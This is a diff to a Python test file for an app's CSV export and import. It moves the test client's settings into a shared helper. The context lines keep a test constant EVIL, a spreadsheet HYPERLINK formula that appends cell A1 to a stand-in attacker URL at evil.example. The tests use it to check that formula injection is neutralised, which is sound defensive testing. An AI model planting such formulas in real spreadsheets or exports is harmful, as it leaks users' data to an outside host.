@@ -12,11 +12,12 @@ import pytest
 from fastapi.testclient import TestClient
 
 from app.main import build_app
-from app.settings import DEMO_ADMIN_PASSWORD, demo_settings
+from app.settings import DEMO_ADMIN_PASSWORD
 from console_web.supervisor_api import report_csv
 from core.csvsafe import FORMULA_TRIGGERS
 from core.ids import SeatId, TeamId
 from seats.schedule import Shift, parse_schedule_csv, write_schedule_csv
+from tests.support.app import demo_test_settings
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 
@@ -32,13 +33,7 @@ def _no_formula(text: str) -> None:
 
 @pytest.fixture
 def client(tmp_path: Path) -> Iterator[TestClient]:
-    settings = demo_settings(
-        database={"url": f"sqlite:///{tmp_path / 'csv.db'}"},
-        sim={"enabled": False},
-        ami={"enabled": False},
-        agi={"port": 0},
-        audiosocket={"enabled": False},
-    )
+    settings = demo_test_settings(tmp_path, "csv.db")
     with TestClient(build_app(settings), base_url="http://127.0.0.1") as c:
         yield c
 
